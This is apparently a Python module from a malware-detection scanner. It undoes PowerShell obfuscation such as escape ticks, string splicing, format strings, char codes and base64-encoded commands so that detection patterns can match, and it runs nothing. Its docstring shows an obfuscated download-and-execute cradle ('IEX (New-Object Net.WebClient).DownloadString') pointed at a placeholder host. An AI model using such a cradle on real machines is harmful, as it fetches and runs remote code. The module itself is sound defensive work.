"""Undo common PowerShell disguises before matching (text only, nothing runs).

:func:`normalise_powershell` returns the script with the same number of lines, each line
rewritten so that patterns see the command PowerShell would run:

- escape ticks inside words: ``I`E`X`` reads ``IEX``; a tick ending a line continues the
  command on the next one, which is joined to it;
- string pieces joined: ``('Down'+'load'+"String")`` reads ``'DownloadString'``;
- the format operator on literals: ``("{1}{0}" -f 'EX','I')`` reads ``'IEX'``;
- characters built from numbers: ``[char]73+[char]69`` and ``-join [char[]](73,69)``;
- ``.Replace(…)`` and ``-replace`` of plain text on a literal, and a literal reversed by
  indexing it backwards (``-join $s[-1..-($s.Length)]``);
- constant variables expanded: after ``$h = 'x.invalid'``, ``"https://$h/a"`` reads
  ``"https://x.invalid/a"``;
- a string run with ``&`` or ``.`` reads as the command it names: ``& 'IEX' $d`` is
  ``IEX $d``;

and the payloads hidden in the script: ``-EncodedCommand`` (base64 of UTF-16 text) and
``[Convert]::FromBase64String('…')``, each with its line, for the caller to analyse like
any other PowerShell. Backslashes are path separators here and are kept.

>>> text = "$m = 'Down'+'load'+'String'\\nI`E`X (New-Object Net.WebClient).$m('https://x.invalid')"
>>> normalise_powershell(text).text.splitlines()[1]
"IEX (New-Object Net.WebClient).DownloadString('https://x.invalid')"
"""

from __future__ import annotations

import base64
import binascii
import re

from .normalise_shell import MAX_PAYLOAD, NormalisedShell, Payload, joined_continuations

POWERSHELL = "powershell"
"""The language name PowerShell code is analysed under."""
POWERSHELL_SUFFIXES = (".ps1", ".psm1")
SHELL_LANGUAGES = frozenset({"shell", POWERSHELL})
"""Languages whose code is a sequence of commands that the shell patterns read."""

_LITERAL = r"(?:'(?:[^']|'')*'|\"[^\"$`]*\")"
"""A single-quoted string, or a double-quoted one with nothing to expand or escape."""
_CONCAT = re.compile(rf"({_LITERAL})\s*\+\s*({_LITERAL})")
_PARENTHESISED = re.compile(rf"(?<![\w\])@$])\(\s*({_LITERAL})\s*\)")
"""A literal in grouping parentheses (not a call's, an array's ``@(…)`` or a ``$(…)``)."""
_FORMAT = re.compile(
    rf"(\"(?:[^\"$`])*\"|'(?:[^']|'')*')\s*-f\s*({_LITERAL}(?:\s*,\s*{_LITERAL})*)(?![\s,]*[\w$'\"])"
)
_CHAR = re.compile(r"\[char\]\s*(0x[0-9a-fA-F]{1,4}|\d{1,5})", re.IGNORECASE)
_CODE = r"(?:0x[0-9a-fA-F]{1,4}|\d{1,5})"
_CHAR_LIST = rf"\[char\[\]\]\s*\(\s*({_CODE}(?:\s*,\s*{_CODE})*)\s*\)"
_JOINED_CHARS = re.compile(
    rf"-join\s*{_CHAR_LIST}|{_CHAR_LIST}\s*-join\s*(?:''|\"\")", re.IGNORECASE
)
_JOINED_LIST = re.compile(
    rf"-join\s*\(\s*({_LITERAL}(?:\s*,\s*{_LITERAL})+)\s*\)"
    rf"|\(\s*({_LITERAL}(?:\s*,\s*{_LITERAL})+)\s*\)\s*-join\s*(?:''|\"\")",
    re.IGNORECASE,
)
_REPLACE = re.compile(
    rf"({_LITERAL})\s*(?:\.replace\(\s*({_LITERAL})\s*,\s*({_LITERAL})\s*\)"
    rf"|-c?replace\s*({_LITERAL})\s*,\s*({_LITERAL}))",
    re.IGNORECASE,
)
_REVERSED = re.compile(
    r"-join\s*\$(\w+)\[\s*-1\s*\.\.\s*-\(?\s*\$\1\.length\s*\)?\s*\]", re.IGNORECASE
)
_CALLED_LITERAL = re.compile(r"(?:^|(?<=[\s;|({]))[&.]\s*'([\w.-]+)'")
_ASSIGNMENT = re.compile(rf"^\s*\$(\w+)\s*=\s*({_LITERAL})\s*(?:;|$)")
_ANY_ASSIGNMENT = re.compile(
    r"\$(\w+)\s*(?:[-+*/%]|\?\?)?=(?!=)|\bforeach\s*\(\s*\$(\w+)\s+in\b", re.IGNORECASE
)
"""Any assignment to a variable, compound ones and loop variables included."""
_ASSIGNS = re.compile(r"\s*(?:[-+*/%]|\?\?)?=(?!=)")
_DECLARES_PARAMETERS = re.compile(r"^\s*(?:param|function\s+[\w-]+)\s*\(", re.IGNORECASE)
_VARIABLE = re.compile(r"\$\{(\w+)\}|\$(\w+)\b(?!:)")
_TICK_IN_STRING = re.compile(r"`(.)")
_SPECIAL_ESCAPES = frozenset("0abefnrtuv`'\"$")
"""Characters a tick changes inside a double-quoted string (``n`` is a newline, a doubled
tick is a tick); before any other character the tick changes nothing."""
_TICK_IN_WORD = re.compile(r"`(?=[\w.-])")
_DOUBLE_QUOTED = re.compile(r'"(?:[^"`]|`.)*"')
_NEW_OBJECT = re.compile(
    r"^\s*\$(\w+)\s*=\s*New-Object\s+(?:-TypeName\s+)?'?([\w.]+)'?\s*;?\s*$", re.I
)
"""``$w = New-Object Net.WebClient``: an object whose methods later lines call as ``$w.…``."""
_OBJECT_CALL = re.compile(r"\$(\w+)(?=\.\w)")
CONTINUED_LINE = re.compile(r"`[ \t]*$")
"""A line ending in a tick: the command goes on on the next line."""
_ENCODED_COMMAND = re.compile(
    r"(?:^|[\s'\",])-(e[a-z]*)[\s'\",]+([A-Za-z0-9+/]{16,}={0,2})(?![\w+/=])", re.IGNORECASE
)
"""``-EncodedCommand BLOB`` or any prefix PowerShell accepts for it (``-e``, ``-enc``, ``-ec``)."""
_RUNS_POWERSHELL = re.compile(r"\b(?:powershell|pwsh)\b", re.IGNORECASE)
_FROM_BASE64 = re.compile(
    r"FromBase64String\(\s*['\"]([A-Za-z0-9+/]{16,}={0,2})['\"]\s*\)", re.IGNORECASE
)
_MAX_FOLDS = 200


def _value(literal: str) -> str:
    """The text of a string literal as written (``'it''s'`` is ``it's``)."""
    if literal.startswith("'"):
        return literal[1:-1].replace("''", "'")
    return literal[1:-1]


def _quoted(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


def _literals(listed: str) -> list[str]:
    return [_value(m.group(0)) for m in re.finditer(_LITERAL, listed)]


def _format(match: re.Match[str]) -> str:
    arguments = _literals(match.group(2))

    def argument(field: re.Match[str]) -> str:
        index = int(field.group(1))
        return arguments[index] if index < len(arguments) else field.group(0)

    return _quoted(re.sub(r"\{(\d+)\}", argument, _value(match.group(1))))


def _char(code: str) -> str:
    number = int(code, 16) if code.lower().startswith("0x") else int(code)
    return chr(number) if 0 < number < 0x110000 else ""


def _joined_chars(match: re.Match[str]) -> str:
    codes = match.group(1) or match.group(2)
    return _quoted("".join(_char(code.strip()) for code in codes.split(",")))


def _joined_list(match: re.Match[str]) -> str:
    return _quoted("".join(_literals(match.group(1) or match.group(2))))


def _replaced(match: re.Match[str]) -> str:
    old = match.group(2) or match.group(4)
    new = match.group(3) or match.group(5)
    subject = _value(match.group(1))
    if match.group(4) is not None and re.escape(_value(old)) != _value(old):
        return match.group(0)  # -replace takes a regular expression; only plain text is read
    pattern = re.compile(re.escape(_value(old)), re.IGNORECASE)
    return _quoted(pattern.sub(lambda _: _value(new), subject))


def _folded(line: str) -> str:
    """``line`` with literal-building expressions replaced by the literal they build."""
    for _ in range(_MAX_FOLDS):
        new = _CHAR.sub(lambda m: _quoted(_char(m.group(1))), line) if "[" in line else line
        new = _JOINED_CHARS.sub(_joined_chars, new) if "-join" in new.lower() else new
        new = _JOINED_LIST.sub(_joined_list, new) if "-join" in new.lower() else new
        new = _CONCAT.sub(lambda m: _quoted(_value(m.group(1)) + _value(m.group(2))), new)
        new = _FORMAT.sub(_format, new) if "-f" in new else new
        new = _REPLACE.sub(_replaced, new) if "replace" in new.lower() else new
        new = _PARENTHESISED.sub(r"\1", new)
        if new == line:
            break
        line = new
    return _CALLED_LITERAL.sub(r"\1", line)


def _expanded(line: str, constants: dict[str, str]) -> str:
    """``line`` with the constant variables it uses replaced by their values: raw inside a
    double-quoted string or after a member dot, as a literal elsewhere. The variable a line
    assigns is left alone."""
    out, quoted = [], False
    position = 0
    for match in _VARIABLE.finditer(line):
        out.append(line[position : match.start()])
        quoted ^= line.count('"', position, match.start()) % 2 == 1
        position = match.end()
        name = (match.group(1) or match.group(2)).lower()
        assigned = _ASSIGNS.match(line, match.end())
        if name not in constants or assigned:
            out.append(match.group(0))
        elif quoted or line[: match.start()].endswith("."):
            out.append(constants[name])
        else:
            out.append(_quoted(constants[name]))
    out.append(line[position:])
    return "".join(out)


def _reversed(line: str, constants: dict[str, str]) -> str:
    def value(match: re.Match[str]) -> str:
        name = match.group(1).lower()
        return _quoted(constants[name][::-1]) if name in constants else match.group(0)

    return _REVERSED.sub(value, line)


def _unneeded_tick_removed(escape: re.Match[str]) -> str:
    return escape.group(0) if escape.group(1) in _SPECIAL_ESCAPES else escape.group(1)


def _without_ticks(line: str) -> str:
    """``line`` with the escape ticks that change nothing removed (``I`E`X`` is ``IEX``)."""
    out, position = [], 0
    for string in _DOUBLE_QUOTED.finditer(line):
        out.append(_TICK_IN_WORD.sub("", line[position : string.start()]))
        out.append(_TICK_IN_STRING.sub(_unneeded_tick_removed, string.group(0)))
        position = string.end()
    out.append(_TICK_IN_WORD.sub("", line[position:]))
    return "".join(out)


def _decoded(blob: str) -> str | None:
    """Base64 ``blob`` as text (UTF-16 as ``-EncodedCommand`` takes it, else UTF-8), or
    None when it is not text."""
    try:
        raw = base64.b64decode(blob + "=" * (-len(blob) % 4), validate=True)
    except (binascii.Error, ValueError):
        return None
    wide = len(raw) % 2 == 0 and raw[1::2].count(0) >= len(raw) // 2 * 0.9
    try:
        text = raw.decode("utf-16-le" if wide else "utf-8")
    except UnicodeDecodeError:
        return None
    printable = sum(ch.isprintable() or ch in "\r\n\t" for ch in text)
    return text[:MAX_PAYLOAD] if text and printable >= 0.95 * len(text) else None


def _payloads(lines: list[str]) -> list[Payload]:
    found = []
    for number, line in enumerate(lines, 1):
        blobs = []
        if "-" in line and _RUNS_POWERSHELL.search(line):
            blobs += [
                (m.group(2), "encoded-command")
                for m in _ENCODED_COMMAND.finditer(line)
                if m.group(1).lower() == "ec" or "encodedcommand".startswith(m.group(1).lower())
            ]
        if "ase64" in line:
            blobs += [(m.group(1), "base64") for m in _FROM_BASE64.finditer(line)]
        for blob, how in blobs:
            text = _decoded(blob)
            if text is not None:
                found.append(Payload(number, POWERSHELL, text, how))
    return found


def normalise_powershell(text: str) -> NormalisedShell:
    """The script with ticks, literal-building expressions and constant variables resolved,
    and the encoded payloads it carries."""
    constants: dict[str, str] = {}
    objects: dict[str, str] = {}
    out_lines: list[str] = []
    for raw in joined_continuations(text.split("\n"), CONTINUED_LINE):
        line = raw if len(raw) <= 5000 else raw[:5000]
        if line.lstrip().startswith("#"):
            out_lines.append(line)
            continue
        if "`" in line:
            line = _without_ticks(line)
        if "$" in line and constants and not _DECLARES_PARAMETERS.match(line):
            line = _expanded(_reversed(line, constants), constants)
        if "'" in line or '"' in line or "[" in line:
            line = _folded(line)
        for assigned in _ANY_ASSIGNMENT.finditer(line) if "$" in line else ():
            constants.pop((assigned.group(1) or assigned.group(2)).lower(), None)
            objects.pop((assigned.group(1) or assigned.group(2)).lower(), None)
        assignment = _ASSIGNMENT.match(line)
        if assignment and len(assignment.group(2)) < 400:
            constants[assignment.group(1).lower()] = _value(assignment.group(2))
        elif created := _NEW_OBJECT.match(line):
            objects[created.group(1).lower()] = f"(New-Object {created.group(2)})"
        if objects and "." in line:
            line = _OBJECT_CALL.sub(lambda m: objects.get(m.group(1).lower(), m.group(0)), line)
        out_lines.append(line)
    normalised = "\n".join(out_lines)
    seen, payloads = set(), []
    for payload in _payloads(text.split("\n")) + _payloads(out_lines):
        if (payload.line, payload.text) not in seen:
            seen.add((payload.line, payload.text))
            payloads.append(payload)
    return NormalisedShell(normalised, payloads)
